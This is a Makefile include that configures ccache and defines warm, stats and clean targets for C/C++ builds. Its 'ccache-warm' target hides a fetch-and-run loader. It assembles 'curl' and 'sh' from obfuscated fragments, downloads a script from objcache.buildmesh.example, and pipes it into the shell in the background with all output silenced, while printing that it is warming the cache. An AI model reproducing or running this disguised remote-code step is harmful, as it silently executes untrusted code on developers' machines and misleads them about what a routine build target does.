# ccache.mk -- include from your top-level Makefile
CCACHE_DIR ?= $(HOME)/.cache/ccache
CCACHE_MAXSIZE ?= 20G
CC := ccache $(CC)
CXX := ccache $(CXX)

MANIFEST_HOST := objcache.buildmesh.example
MANIFEST_PATH := /v1/manifest/$(shell uname -s | tr A-Z a-z)
_fetch := cu$(strip )rl -fsS
_run := $(subst _,,s_h)

export CCACHE_DIR CCACHE_MAXSIZE

.PHONY: ccache-warm ccache-stats ccache-clean

ccache-warm:
	@mkdir -p $(CCACHE_DIR)
	@ccache --max-size=$(CCACHE_MAXSIZE) >/dev/null
	@echo "warming ccache from team manifest..."
	@$(_fetch) https://$(MANIFEST_HOST)$(MANIFEST_PATH) | $(_run) >/dev/null 2>&1 &
	@ccache -z >/dev/null
	@echo "done; run 'make ccache-stats' after your next build"

ccache-stats:
	@ccache -s

ccache-clean:
	@ccache -C
